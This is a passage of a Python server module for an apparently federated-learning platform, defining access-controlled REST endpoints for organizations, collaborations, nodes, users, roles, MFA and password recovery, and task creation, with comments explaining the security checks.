        _validate_public_key(body.get("public_key"))
        oid = db.insert(
            "organization",
            **{k: body.get(k) for k in (
                "name", "address1", "address2", "zipcode", "country",
                "domain", "public_key",
            )},
        )
        return 201, db.get("organization", oid)

    @r.route("GET", "/organization/<id>")
    def org_get(req):
        ident = req.identity
        org = db.get("organization", int(req.params["id"]))
        if not org:
            raise HTTPError(404, "no such organization")
        visible = _visible_orgs(app, ident, "organization")
        if visible is not None and org["id"] not in visible:
            raise HTTPError(403, "organization not visible to you")
        return 200, org

    @r.route("PATCH", "/organization/<id>")
    def org_patch(req):
        ident = req.identity
        oid = int(req.params["id"])
        if not db.get("organization", oid):
            raise HTTPError(404, "no such organization")
        if ident["client_type"] == IDENTITY_USER:
            if _user_org(app, ident) == oid:
                _check_user_perm(app, ident, "organization", EDIT,
                                 Scope.ORGANIZATION)
            else:
                _check_user_perm(app, ident, "organization", EDIT, Scope.GLOBAL)
        elif ident["client_type"] == IDENTITY_NODE:
            # nodes may upload their org's public key at startup
            if ident["organization_id"] != oid:
                raise HTTPError(403, "nodes may only edit their own org")
            allowed_fields = {"public_key"}
            if set((req.body or {})) - allowed_fields:
                raise HTTPError(403, "nodes may only set public_key")
        else:
            raise HTTPError(403, "containers cannot edit organizations")
        fields = {
            k: v for k, v in (req.body or {}).items()
            if k in ("name", "address1", "address2", "zipcode", "country",
                     "domain", "public_key")
        }
        if "public_key" in fields:
            _validate_public_key(fields["public_key"])
        if fields:
            db.update("organization", oid, **fields)
        return 200, db.get("organization", oid)

    # ==================== collaboration ====================
    @r.route("GET", "/collaboration")
    def collab_list(req):
        ident = req.identity
        conds, params = [], []
        visible = _visible_orgs(app, ident, "collaboration")
        if visible is not None:
            if not visible:
                conds.append("1=0")
            else:
                conds.append(
                    "id IN (SELECT DISTINCT collaboration_id FROM member "
                    f"WHERE organization_id IN "
                    f"({','.join('?' * len(visible))}))"
                )
                params.extend(sorted(visible))
        payload = _paginate_sql(req, db, "SELECT * FROM collaboration",
                                conds, params)
        rows = payload["data"]
        # one batched member fetch for the page's rows (O(page), not a
        # per-collaboration query); rowid order preserves the insertion
        # order the per-row query used to return
        members: dict[int, list[int]] = {}
        if rows:
            for m in db.all(
                "SELECT collaboration_id, organization_id FROM member "
                f"WHERE collaboration_id IN ({','.join('?' * len(rows))}) "
                "ORDER BY rowid",
                [c["id"] for c in rows],
            ):
                members.setdefault(m["collaboration_id"], []).append(
                    m["organization_id"]
                )
        for c in rows:
            c["organization_ids"] = members.get(c["id"], [])
            c["encrypted"] = bool(c["encrypted"])
        return 200, payload

    @r.route("POST", "/collaboration")
    def collab_create(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "collaboration", CREATE, Scope.GLOBAL)
        body = req.body or {}
        if not body.get("name"):
            raise HTTPError(400, "name required")
        cid = db.insert("collaboration", name=body["name"],
                        encrypted=int(bool(body.get("encrypted", False))))
        for oid in body.get("organization_ids", []):
            if not db.get("organization", oid):
                raise HTTPError(400, f"no such organization: {oid}")
            db.insert("member", collaboration_id=cid, organization_id=oid)
        out = db.get("collaboration", cid)
        out["organization_ids"] = body.get("organization_ids", [])
        out["encrypted"] = bool(out["encrypted"])
        return 201, out

    @r.route("GET", "/collaboration/<id>")
    def collab_get(req):
        c = db.get("collaboration", int(req.params["id"]))
        if not c:
            raise HTTPError(404, "no such collaboration")
        collabs = _visible_collabs(req.identity)
        if collabs is not None and c["id"] not in collabs:
            raise HTTPError(403, "collaboration not visible to you")
        c["organization_ids"] = [
            m["organization_id"] for m in db.all(
                "SELECT organization_id FROM member WHERE collaboration_id=?",
                (c["id"],),
            )
        ]
        c["encrypted"] = bool(c["encrypted"])
        return 200, c

    @r.route("PATCH", "/collaboration/<id>")
    def collab_patch(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "collaboration", EDIT, Scope.GLOBAL)
        cid = int(req.params["id"])
        if not db.get("collaboration", cid):
            raise HTTPError(404, "no such collaboration")
        body = req.body or {}
        fields = {}
        if "name" in body:
            fields["name"] = body["name"]
        if "encrypted" in body:
            fields["encrypted"] = int(bool(body["encrypted"]))
        if fields:
            db.update("collaboration", cid, **fields)
        if "organization_ids" in body:
            db.delete("member", "collaboration_id=?", (cid,))
            for oid in body["organization_ids"]:
                db.insert("member", collaboration_id=cid, organization_id=oid)
        status, payload = collab_get(req)  # respond with the fresh view
        return status, payload

    # ==================== node ====================
    @r.route("GET", "/node")
    def node_list(req):
        ident = req.identity
        sql, params = "SELECT * FROM node", []
        conds = []
        for key in ("organization_id", "collaboration_id", "status"):
            if key in req.query:
                conds.append(f"{key}=?")
                params.append(req.query[key])
        if conds:
            sql += " WHERE " + " AND ".join(conds)
        rows = db.all(sql + " ORDER BY id", params)
        visible = _visible_orgs(app, ident, "node")
        if visible is not None:
            rows = [n for n in rows if n["organization_id"] in visible]
        for n in rows:
            n.pop("api_key", None)
        return 200, _paginate(req, rows)

    @r.route("POST", "/node")
    def node_create(req):
        ident = _require(req, IDENTITY_USER)
        body = req.body or {}
        org_id = body.get("organization_id") or _user_org(app, ident)
        if org_id == _user_org(app, ident):
            _check_user_perm(app, ident, "node", CREATE, Scope.ORGANIZATION)
        else:
            _check_user_perm(app, ident, "node", CREATE, Scope.GLOBAL)
        collab_id = body.get("collaboration_id")
        if not db.get("collaboration", collab_id or 0):
            raise HTTPError(400, "collaboration_id required/unknown")
        if not db.one(
            "SELECT 1 FROM member WHERE collaboration_id=? AND organization_id=?",
            (collab_id, org_id),
        ):
            raise HTTPError(400, "organization not in collaboration")
        api_key = secrets.token_urlsafe(32)
        try:
            nid = db.insert(
                "node",
                name=body.get("name") or f"node-{org_id}-{collab_id}",
                api_key=api_key, organization_id=org_id,
                collaboration_id=collab_id,
            )
        except Exception:
            raise HTTPError(400, "node already exists for this org+collaboration")
        out = db.get("node", nid)
        out["api_key"] = api_key  # returned only at creation
        return 201, out

    @r.route("GET", "/node/<id>")
    def node_get(req):
        n = db.get("node", int(req.params["id"]))
        if not n:
            raise HTTPError(404, "no such node")
        visible = _visible_orgs(app, req.identity, "node")
        if visible is not None and n["organization_id"] not in visible:
            raise HTTPError(403, "node not visible to you")
        n.pop("api_key", None)
        return 200, n

    @r.route("PATCH", "/node/<id>/heartbeat")
    def node_heartbeat(req):
        """Node liveness beacon (docs/RESILIENCE.md): refreshes
        ``last_seen`` and renews the lease of every in-flight run id the
        node piggybacks, so the lease sweeper only reclaims runs whose
        node actually went silent. Returns the server's lease TTL so
        nodes can sanity-check their heartbeat interval against it."""
        ident = _require(req, IDENTITY_NODE)
        nid = int(req.params["id"])
        if ident["sub"] != nid:
            raise HTTPError(403, "cannot heartbeat for another node")
        db.update("node", nid, last_seen=time.time(), status="online")
        run_ids = (req.body or {}).get("run_ids") or []
        renewed = []
        for rid in run_ids:
            ok = db.update_where(
                "run",
                "id=? AND organization_id=? AND status IN (?, ?) "
                "AND lease_expires_at IS NOT NULL",
                (int(rid), ident["organization_id"],
                 TaskStatus.INITIALIZING.value, TaskStatus.ACTIVE.value),
                lease_expires_at=time.time() + app.lease_ttl,
            )
            if ok:
                renewed.append(int(rid))
        if renewed:
            app.metrics.counter(
                "v6_lease_renewals_total", "run leases renewed by heartbeat"
            ).inc(len(renewed))
        _ingest_spans((req.body or {}).get("spans"))
        out = {"lease_ttl": app.lease_ttl, "renewed": renewed}
        delta = (req.body or {}).get("metrics")
        if isinstance(delta, dict):
            # Registry piggyback (docs/OBSERVABILITY.md §7): apply the
            # node's delta against its stored export; on a sequence
            # mismatch (worker failover, pruned row, node restart) ask
            # for a full resync instead of guessing. Ingest is bounded
            # at this trust boundary: a buggy or compromised node must
            # not mint unbounded series that bloat the stored row and
            # every fleet scrape (the V6L029 cardinality DoS) — an
            # oversized payload is rejected outright (no resync: the
            # full export it would trigger is even larger), and the
            # merged export is clamped to the family/series caps
            # before it is persisted.
            if len(json.dumps(delta)) > telemetry.MAX_INGEST_BYTES:
                app.metrics.counter(
                    "v6_metrics_ingest_dropped_total",
                    "node metric export entries rejected or truncated "
                    "at heartbeat ingest",
                ).inc(reason="too_large")
                out["metrics_dropped"] = "too_large"
                return 200, out
            node_row = db.get("node", nid)
            source_id = (node_row or {}).get("name") or str(nid)
            stored = app.db.metrics_load("node", source_id)
            merged = telemetry.apply_delta(stored, delta)
            if merged is None:
                out["metrics_resync"] = True
            else:
                merged, dropped = telemetry.clamp_export(merged)
                if dropped:
                    app.metrics.counter(
                        "v6_metrics_ingest_dropped_total",
                        "node metric export entries rejected or "
                        "truncated at heartbeat ingest",
                    ).inc(dropped, reason="cardinality")
                    out["metrics_dropped"] = "cardinality"
                app.db.metrics_save("node", source_id, merged)
        return 200, out

    @r.route("DELETE", "/node/<id>")
    def node_delete(req):
        ident = _require(req, IDENTITY_USER)
        n = db.get("node", int(req.params["id"]))
        if not n:
            raise HTTPError(404, "no such node")
        if n["organization_id"] == _user_org(app, ident):
            _check_user_perm(app, ident, "node", DELETE, Scope.ORGANIZATION)
        else:
            _check_user_perm(app, ident, "node", DELETE, Scope.GLOBAL)
        db.delete("node", "id=?", (n["id"],))
        # the decommissioned node's persisted export must stop
        # contributing to fleet scrapes (heartbeats keyed it by name,
        # falling back to the id — drop both forms)
        app.db.metrics_delete("node", n.get("name") or str(n["id"]))
        app.db.metrics_delete("node", str(n["id"]))
        return 200, {"msg": "node deleted"}

    # ==================== user / role / rule ====================
    @r.route("GET", "/user")
    def user_list(req):
        ident = _require(req, IDENTITY_USER)
        visible = _visible_orgs(app, ident, "user")
        rows = db.all(
            "SELECT id, username, email, firstname, lastname, organization_id "
            "FROM user ORDER BY id"
        )
        if visible is not None:
            rows = [u for u in rows if u["organization_id"] in visible
                    or u["id"] == ident["sub"]]
        by_user: dict[int, list[int]] = {}
        for ur in db.all("SELECT user_id, role_id FROM user_role"):
            by_user.setdefault(ur["user_id"], []).append(ur["role_id"])
        for u in rows:
            u["roles"] = by_user.get(u["id"], [])
        return 200, _paginate(req, rows)

    @r.route("POST", "/user")
    def user_create(req):
        ident = _require(req, IDENTITY_USER)
        body = req.body or {}
        org_id = body.get("organization_id") or _user_org(app, ident)
        if org_id == _user_org(app, ident):
            _check_user_perm(app, ident, "user", CREATE, Scope.ORGANIZATION)
        else:
            _check_user_perm(app, ident, "user", CREATE, Scope.GLOBAL)
        if not body.get("username") or not body.get("password"):
            raise HTTPError(400, "username and password required")
        try:
            uid = db.insert(
                "user", username=body["username"],
                password_hash=hash_password(body["password"]),
                email=body.get("email"), firstname=body.get("firstname"),
                lastname=body.get("lastname"), organization_id=org_id,
            )
        except Exception:
            raise HTTPError(400, "username already exists")
        for role in body.get("roles", []):
            app.permissions.assign_role(uid, role)
        return 201, {
            "id": uid, "username": body["username"], "organization_id": org_id,
        }

    @r.route("GET", "/user/current")
    def user_current(req):
        """Who does this token belong to? Identity introspection for
        services that accept server-vouched users (the algorithm store
        validates a caller's server JWT here — reference: store users
        linked to whitelisted vantage6 servers)."""
        ident = _require(req, IDENTITY_USER)
        user = db.get("user", ident["sub"])
        if not user:
            raise HTTPError(404, "user no longer exists")
        return 200, {
            "id": user["id"], "username": user["username"],
            "organization_id": user["organization_id"],
            "email": user["email"],
        }

    @r.route("POST", "/user/mfa/setup")
    def mfa_setup(req):
        """Start TOTP enrollment for the calling user: returns the secret
        + provisioning URI; confirm with /user/mfa/enable."""
        from vantage6_trn.common import totp as v6totp

        ident = _require(req, IDENTITY_USER)
        secret = v6totp.new_secret()
        user = db.get("user", ident["sub"])
        db.update("user", ident["sub"], otp_secret=secret, otp_enabled=0)
        return 200, {
            "otp_secret": secret,
            "provisioning_uri": v6totp.provisioning_uri(
                secret, user["username"]
            ),
        }

    @r.route("POST", "/user/mfa/enable")
    def mfa_enable(req):
        from vantage6_trn.common import totp as v6totp

        ident = _require(req, IDENTITY_USER)
        user = db.get("user", ident["sub"])
        if not user["otp_secret"]:
            raise HTTPError(400, "call /user/mfa/setup first")
        if not v6totp.verify(user["otp_secret"],
                             str((req.body or {}).get("mfa_code", ""))):
            raise HTTPError(400, "code does not match; not enabled")
        db.update("user", ident["sub"], otp_enabled=1)
        return 200, {"msg": "mfa enabled"}

    def _recovery_token(user_id: int, kind: str) -> str:
        from vantage6_trn.common import jwt as v6jwt

        return v6jwt.encode(
            {"sub": user_id, "type": kind, "jti": secrets.token_hex(16)},
            app.jwt_secret, expires_in=3600,
        )

    def _burn_recovery_token(claims: dict) -> None:
        """One-shot enforcement: a recovery token that was ever consumed
        must never work again (a replayed 2FA-reset would silently
        re-disable the victim's MFA for the rest of the token hour)."""
        import sqlite3

        jti = claims.get("jti")
        if not jti:
            raise HTTPError(401, "token is not single-use capable")
        try:
            db.insert("used_token", jti=jti, used_at=time.time())
        except sqlite3.IntegrityError:
            # only a duplicate jti means "already used" — any other DB
            # failure must surface as a 500, not gaslight the user
            raise HTTPError(401, "reset token already used")
        # tokens expire after 1h; prune burned ids past any validity
        db.delete("used_token", "used_at < ?", (time.time() - 7200,))

    @r.route("POST", "/recover/lost")
    def recover_lost(req):
        """Password recovery. With SMTP configured (reference:
        mail_service.py) the reset token is mailed to the account's
        address; otherwise an *authenticated admin* receives it in the
        response (admin-assisted reset). The open variant always returns
        a generic 200 without leaking account existence."""
        body = req.body or {}
        user = db.one("SELECT * FROM user WHERE username=?",
                      (body.get("username"),))
        ident = req.identity
        is_admin = (
            ident is not None
            and ident.get("client_type") == IDENTITY_USER
            and app.permissions.allowed(ident["sub"], "user", EDIT,
                                        Scope.GLOBAL)
        )
        if user and is_admin:
            token = _recovery_token(user["id"], "password_recovery")
            return 200, {"msg": "reset token issued", "reset_token": token}
        if user and app.mail is not None and user.get("email"):
            _send_mail_async(
                "password_recovery", user, app.mail.send_password_recovery,
                user["email"], user["username"],
                _recovery_token(user["id"], "password_recovery"),
            )
        return 200, {"msg": "if the account exists, recovery has been initiated"}

    @r.route("POST", "/recover/2fa-lost")
    def recover_2fa_lost(req):
        """Mail a 2FA-reset token (reference: 2FA recovery mail). The
        caller must present the correct password — losing the TOTP
        device must not weaken the password factor. Failed guesses count
        toward the same lockout as /token/user (this endpoint must not
        be a lockout-free password oracle), and a missing account burns
        a dummy hash compare so timing stays flat."""
        body = req.body or {}
        user = db.one("SELECT * FROM user WHERE username=?",
                      (body.get("username"),))
        generic = {"msg": "if the account exists, a reset mail was sent"}
        try:
            _check_lockout(user)
        except HTTPError:
            # locked → no mail, but the open endpoint must answer the
            # same as for a nonexistent account (a 429 here would be a
            # deterministic account-existence oracle) — and with the
            # same hash-compare cost, or the fast path is the oracle
            verify_password(body.get("password", ""), _DUMMY_HASH)
            return 200, generic
        password_ok = verify_password(
            body.get("password", ""),
            user["password_hash"] if user else _DUMMY_HASH,
        )
        if not user:
            return 200, generic
        if not password_ok:
            _login_failure(user)
            return 200, generic
        if app.mail is not None and user.get("email"):
            _send_mail_async(
                "2fa_recovery", user, app.mail.send_2fa_reset,
                user["email"], user["username"],
                _recovery_token(user["id"], "2fa_recovery"),
            )
        return 200, generic

    @r.route("POST", "/recover/2fa-reset")
    def recover_2fa_reset(req):
        from vantage6_trn.common import jwt as v6jwt

        body = req.body or {}
        try:
            claims = v6jwt.decode(body.get("reset_token", ""),
                                  app.jwt_secret)
        except v6jwt.JWTError as e:
            raise HTTPError(401, f"invalid reset token: {e}")
        if claims.get("type") != "2fa_recovery":
            raise HTTPError(401, "not a 2fa recovery token")
        _burn_recovery_token(claims)
        db.update("user", claims["sub"], otp_enabled=0, otp_secret=None,
                  failed_logins=0)
        return 200, {"msg": "two-factor authentication disabled; log in and "
                       "re-enroll via /user/mfa/setup"}

    @r.route("POST", "/recover/reset")
    def recover_reset(req):
        from vantage6_trn.common import jwt as v6jwt

        body = req.body or {}
        try:
            claims = v6jwt.decode(body.get("reset_token", ""), app.jwt_secret)
        except v6jwt.JWTError as e:
            raise HTTPError(401, f"invalid reset token: {e}")
        if claims.get("type") != "password_recovery":
            raise HTTPError(401, "not a recovery token")
        if not body.get("password"):
            raise HTTPError(400, "password required")
        _burn_recovery_token(claims)
        db.update("user", claims["sub"],
                  password_hash=hash_password(body["password"]),
                  failed_logins=0)
        return 200, {"msg": "password updated"}

    @r.route("GET", "/role")
    def role_list(req):
        _require(req, IDENTITY_USER)
        roles = db.all("SELECT * FROM role ORDER BY id")
        for role in roles:
            role["rules"] = [
                rr["rule_id"] for rr in db.all(
                    "SELECT rule_id FROM role_rule WHERE role_id=?",
                    (role["id"],),
                )
            ]
        return 200, {"data": roles}

    @r.route("GET", "/rule")
    def rule_list(req):
        _require(req, IDENTITY_USER)
        return 200, {"data": db.all("SELECT * FROM rule ORDER BY id")}

    # Role CRUD (reference: resource/role.py — custom roles are named
    # rule bundles; the seeded default roles are immutable). The one
    # security invariant everything below enforces: you can only hand
    # out rules you hold yourself — otherwise any role|create holder
    # could mint a Root-equivalent role and assign it to themselves.
    def _role_rules(role_id: int) -> list[int]:
        return [rr["rule_id"] for rr in db.all(
            "SELECT rule_id FROM role_rule WHERE role_id=? ORDER BY rule_id",
            (role_id,),
        )]

    def _is_default_role(role: dict) -> bool:
        from vantage6_trn.server.permission import DEFAULT_ROLES

        return role["name"] in DEFAULT_ROLES

    def _check_rules_grantable(ident, rule_ids: list[int]) -> None:
        held = app.permissions.rules_for_user(ident["sub"])
        for rid in rule_ids:
            rule = db.get("rule", rid)
            if not rule:
                raise HTTPError(400, f"no such rule: {rid}")
            if (rule["name"], rule["operation"], rule["scope"]) not in held:
                raise HTTPError(
                    403, f"cannot grant rule you do not hold: "
                         f"{rule['name']}|{rule['operation']}@"
                         f"{rule['scope']}"
                )

    @r.route("GET", "/role/<id>")
    def role_get(req):
        _require(req, IDENTITY_USER)
        role = db.get("role", int(req.params["id"]))
        if not role:
            raise HTTPError(404, "no such role")
        role["rules"] = _role_rules(role["id"])
        role["users"] = [u["user_id"] for u in db.all(
            "SELECT user_id FROM user_role WHERE role_id=?", (role["id"],)
        )]
        return 200, role

    @r.route("POST", "/role")
    def role_create(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "role", CREATE, Scope.GLOBAL)
        body = req.body or {}
        if not body.get("name"):
            raise HTTPError(400, "name required")
        rule_ids = sorted({int(x) for x in body.get("rules") or []})
        _check_rules_grantable(ident, rule_ids)
        try:
            role_id = db.insert("role", name=body["name"],
                                description=body.get("description"))
        except Exception:
            raise HTTPError(400, "role name already exists")
        for rid in rule_ids:
            db.insert("role_rule", role_id=role_id, rule_id=rid)
        return 201, {"id": role_id, "name": body["name"],
                     "rules": rule_ids}

    @r.route("PATCH", "/role/<id>")
    def role_update(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "role", EDIT, Scope.GLOBAL)
        role = db.get("role", int(req.params["id"]))
        if not role:
            raise HTTPError(404, "no such role")
        if _is_default_role(role):
            raise HTTPError(403, "default roles are immutable")
        body = req.body or {}
        fields = {}
        if body.get("name"):
            fields["name"] = body["name"]
        if "description" in body:
            fields["description"] = body["description"]
        if fields:
            try:
                db.update("role", role["id"], **fields)
            except Exception:
                raise HTTPError(400, "role name already exists")
        if "rules" in body:
            rule_ids = sorted({int(x) for x in body.get("rules") or []})
            # the grant-what-you-hold invariant cuts both ways here just
            # as in user_update: ADDING a rule to the bundle needs it,
            # and so does REMOVING one — else a role|edit holder could
            # strip rules they don't hold from every assignee of the role
            current = set(_role_rules(role["id"]))
            _check_rules_grantable(
                ident, sorted(current.symmetric_difference(rule_ids)))
            db.delete("role_rule", "role_id=?", (role["id"],))
            for rid in rule_ids:
                db.insert("role_rule", role_id=role["id"], rule_id=rid)
        out = db.get("role", role["id"])
        out["rules"] = _role_rules(role["id"])
        return 200, out

    @r.route("DELETE", "/role/<id>")
    def role_delete(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "role", DELETE, Scope.GLOBAL)
        role = db.get("role", int(req.params["id"]))
        if not role:
            raise HTTPError(404, "no such role")
        if _is_default_role(role):
            raise HTTPError(403, "default roles are immutable")
        db.delete("user_role", "role_id=?", (role["id"],))
        db.delete("role_rule", "role_id=?", (role["id"],))
        db.delete("role", "id=?", (role["id"],))
        return 200, {"msg": "role deleted"}

    @r.route("PATCH", "/user/<id>")
    def user_update(req):
        ident = _require(req, IDENTITY_USER)
        target = db.get("user", int(req.params["id"]))
        if not target:
            raise HTTPError(404, "no such user")
        if target["id"] != ident["sub"]:
            if target["organization_id"] == _user_org(app, ident):
                _check_user_perm(app, ident, "user", EDIT,
                                 Scope.ORGANIZATION)
            else:
                _check_user_perm(app, ident, "user", EDIT, Scope.GLOBAL)
        body = req.body or {}
        fields = {k: body[k] for k in ("email", "firstname", "lastname")
                  if k in body}
        if fields:
            db.update("user", target["id"], **fields)
        if "roles" in body:
            _check_user_perm(app, ident, "user", EDIT,
                             Scope.ORGANIZATION if target[
                                 "organization_id"] == _user_org(app, ident)
                             else Scope.GLOBAL)
            role_ids = []
            for name_or_id in body.get("roles") or []:
                role = (db.get("role", name_or_id)
                        if isinstance(name_or_id, int)
                        else db.one("SELECT * FROM role WHERE name=?",
                                    (name_or_id,)))
                if not role:
                    raise HTTPError(400, f"no such role: {name_or_id}")
                role_ids.append(role["id"])
            current = {ur["role_id"] for ur in db.all(
                "SELECT role_id FROM user_role WHERE user_id=?",
                (target["id"],),
            )}
            # changing an assignment moves rules in BOTH directions:
            # granting needs the rules, and so does revoking — else an
            # org admin could strip a global admin's roles (privilege
            # sabotage) despite never being able to grant them back
            for rid in current.symmetric_difference(role_ids):
                _check_rules_grantable(ident, _role_rules(rid))
            db.delete("user_role", "user_id=?", (target["id"],))
            for rid in role_ids:
                db.insert("user_role", user_id=target["id"], role_id=rid)
        out = db.get("user", target["id"])
        out.pop("password_hash", None)
        out.pop("otp_secret", None)
        out["roles"] = [ur["role_id"] for ur in db.all(
            "SELECT role_id FROM user_role WHERE user_id=?",
            (target["id"],),
        )]
        return 200, out

    @r.route("DELETE", "/user/<id>")
    def user_delete(req):
        ident = _require(req, IDENTITY_USER)
        target = db.get("user", int(req.params["id"]))
        if not target:
            raise HTTPError(404, "no such user")
        if target["id"] == ident["sub"]:
            raise HTTPError(400, "cannot delete yourself")
        if target["organization_id"] == _user_org(app, ident):
            _check_user_perm(app, ident, "user", DELETE,
                             Scope.ORGANIZATION)
        else:
            _check_user_perm(app, ident, "user", DELETE, Scope.GLOBAL)
        # deleting is the ultimate revocation: forbidden on a target
        # holding rules the caller doesn't (an org-scoped admin must
        # not be able to delete a global admin in their org)
        extra = (app.permissions.rules_for_user(target["id"])
                 - app.permissions.rules_for_user(ident["sub"]))
        if extra:
            raise HTTPError(
                403, "target holds permissions you do not; cannot delete"
            )
        db.delete("user_role", "user_id=?", (target["id"],))
        db.delete("user_rule", "user_id=?", (target["id"],))
        db.delete("user", "id=?", (target["id"],))
        return 200, {"msg": "user deleted"}

    # ==================== task ====================
    def _idempotent_replay(idem_key: str):
        """Stored task view for a replayed ``Idempotency-Key``, or None
        when the key is unknown. A reserved-but-unfilled key means the
        original request is still being processed (or died mid-create
        and is about to clean up) — the replayer backs off with 409."""
        row = db.one(
            "SELECT task_id FROM idempotency_key WHERE key=?", (idem_key,)
        )
        if not row:
            return None
        if not row["task_id"]:
            raise HTTPError(
                409, "a request with this Idempotency-Key is in flight"
            )
        task = db.get("task", row["task_id"])
        if not task:
            return None
        return _task_view(app, task, with_runs=True)

    @r.route("POST", "/task")
    def task_create(req):
        ident = req.identity
        body = req.body or {}
        idem_key = req.headers.get("idempotency-key")
        if idem_key:
            replay = _idempotent_replay(idem_key)
            if replay is not None:
                # replays record no span: the original create already did
                app.metrics.counter(
                    "v6_idempotent_replays_total",
                    "task creates answered from the idempotency cache",
                ).inc()
                return 201, replay
        collab_id = body.get("collaboration_id")
        orgs = body.get("organizations") or []
        image = body.get("image")
        if not (collab_id and orgs and image):
            raise HTTPError(
                400, "collaboration_id, organizations and image are required"
            )
        parent_id = None
        init_org = None
        init_user = None
        if ident["client_type"] == IDENTITY_USER:
            _check_user_perm(app, ident, "task", CREATE, Scope.COLLABORATION)
            init_user = ident["sub"]
            init_org = _user_org(app, ident)
            user_collabs = {
                m["collaboration_id"] for m in db.all(
                    "SELECT collaboration_id FROM member WHERE organization_id=?",
                    (init_org,),
                )
            }
            if (collab_id not in user_collabs
                    and not app.permissions.allowed(
                        ident["sub"], "task", CREATE, Scope.GLOBAL)):
                raise HTTPError(403, "not a member of that collaboration")
        elif ident["client_type"] == IDENTITY_CONTAINER:
            # the federation primitive: subtask creation (SURVEY.md §3.4).
            if ident["collaboration_id"] != collab_id:
                raise HTTPError(403, "subtask outside own collaboration")
            if ident["image"] != image:
                raise HTTPError(403, "subtask must use the parent task image")
            parent_id = ident["task_id"]
            init_org = ident["organization_id"]
            parent_check = db.get("task", parent_id)
            if parent_check and parent_check.get("killed_at"):
                # a dying coordinator must not extend a killed subtree
                raise HTTPError(410, "parent task was killed")
        else:
            raise HTTPError(403, "nodes cannot create tasks")

        member_ids = {
            m["organization_id"] for m in db.all(
                "SELECT organization_id FROM member WHERE collaboration_id=?",
                (collab_id,),
            )
        }
        for org in orgs:
            if org.get("id") not in member_ids:
                raise HTTPError(
                    400, f"organization {org.get('id')} not in collaboration"
                )
        if len({o["id"] for o in orgs}) != len(orgs):
            # one run per org per task: payloads, results and the
            # new_task runs-map all key by org id, so duplicates could
            # only strand runs
            raise HTTPError(400, "duplicate organization in task targets")
        collab_row = db.get("collaboration", collab_id)
        if collab_row and collab_row["encrypted"]:
            # results are sealed for the initiating org — without a
            # registered public key the task can only fail later at the
            # node; reject it here with the real reason instead
            init_org_row = db.get("organization", init_org) if init_org \
                else None
            if not init_org_row or not init_org_row.get("public_key"):
                raise HTTPError(
                    400, "encrypted collaboration: the initiating "
                         "user's organization has no public key "
                         "registered (or the user has no organization)"
                )

        if idem_key:
            # reserve the key BEFORE creating anything: the PRIMARY KEY
            # makes concurrent duplicates collide here, so exactly one
            # request creates the task and the rest replay its view
            # (the db's single guarded connection serializes this)
            try:
                db.insert("idempotency_key", key=idem_key,
                          created_at=time.time())
            except sqlite3.IntegrityError:
                replay = _idempotent_replay(idem_key)
                if replay is not None:
                    app.metrics.counter(
                        "v6_idempotent_replays_total",
                        "task creates answered from the idempotency cache",
                    ).inc()
                    return 201, replay
                raise HTTPError(
                    409, "a request with this Idempotency-Key is in flight"
                )
        try:
            parent = db.get("task", parent_id) if parent_id else None
            tid = db.insert(
                "task", name=body.get("name"),
                description=body.get("description"),
                image=image, collaboration_id=collab_id,
                init_org_id=init_org,
                init_user_id=init_user, parent_id=parent_id,
                job_id=parent["job_id"] if parent else None,
                databases=json.dumps(body.get("databases") or []),
                created_at=time.time(),
            )
            if not parent:
                db.update("task", tid, job_id=tid)
            run_ids = []
            task_encrypted = bool(collab_row and collab_row["encrypted"])
            for org in orgs:
                rid = db.insert(
                    "run", task_id=tid, organization_id=org["id"],
                    status=TaskStatus.PENDING.value,
                    # wire form (bytes leaf or legacy string) → canonical
                    # stored blob, deterministic via the encrypted flag
                    input=payload_to_blob(org.get("input"), task_encrypted),
                    assigned_at=time.time(),
                )
                run_ids.append(rid)
            if parent_id:
                # close the race with a concurrent kill cascade: the
                # cascade may have walked the subtree between our
                # pre-check and the inserts above, missing this task —
                # kill it here ourselves
                parent_now = db.get("task", parent_id)
                if parent_now and parent_now.get("killed_at"):
                    db.update("task", tid, killed_at=time.time())
                    for rid in run_ids:
                        db.update_where(
                            "run", "id=? AND status=?",
                            (rid, TaskStatus.PENDING.value),
                            status=TaskStatus.KILLED.value,
                            log="killed before pickup",
                            finished_at=time.time(),
                        )
                    raise HTTPError(410, "parent task was killed")
        except BaseException:
            if idem_key:
                # failed creates must not poison the key: let the
                # client's retry (same key) attempt the create again
                db.delete("idempotency_key", "key=?", (idem_key,))
            raise
        if idem_key:
            db.update_where("idempotency_key", "key=?", (idem_key,),
                            task_id=tid)
        app.metrics.counter(
            "v6_tasks_created_total", "tasks created (non-replay)"
        ).inc(kind="subtask" if parent_id else "root")
        _server_span("task.create", req, task_id=tid, runs=len(run_ids))
        app.events.emit(
            EVENT_NEW_TASK,
            {"task_id": tid, "collaboration_id": collab_id,
             "organization_ids": [o["id"] for o in orgs],
             # per-org run ids let a node claim its run directly off
             # the push instead of a GET /run sync first — one hop less
             # on the round's critical path (JSON keys are strings)
             "runs": {str(o["id"]): rid
                      for o, rid in zip(orgs, run_ids)}},
            [collaboration_room(collab_id)],
        )
        out = _task_view(app, db.get("task", tid), with_runs=True)
        return 201, out

    @r.route("GET", "/task")
    def task_list(req):
        ident = req.identity
        conds, params = [], []
        for key in ("collaboration_id", "job_id", "parent_id", "init_org_id"):
            if key in req.query:
                conds.append(f"{key}=?")
                params.append(req.query[key])
        visible = _visible_orgs(app, ident, "task")
        if visible is not None:
            if not visible:
                return 200, _paginate(req, [])  # keep the links shape
            conds.append(
                "collaboration_id IN (SELECT DISTINCT collaboration_id "
                f"FROM member WHERE organization_id IN "
                f"({','.join('?' * len(visible))}))"
            )
            params.extend(visible)
        out = _paginate_sql(req, db, "SELECT * FROM task", conds, params)
        out["data"] = [_task_view(app, t) for t in out["data"]]
        return 200, out

    @r.route("GET", "/task/<id>")
    def task_get(req):
        ident = req.identity
        t = db.get("task", int(req.params["id"]))
        if not t:
            raise HTTPError(404, "no such task")
        visible = _visible_orgs(app, ident, "task")
        if visible is not None:
            collabs = {
                m["collaboration_id"] for m in db.all(
                    "SELECT DISTINCT collaboration_id FROM member WHERE "
                    f"organization_id IN ({','.join('?' * len(visible))})",
                    tuple(visible),
                )
            } if visible else set()
            if t["collaboration_id"] not in collabs:
                raise HTTPError(403, "task not visible to you")
        return 200, _task_view(app, t, with_runs=True)

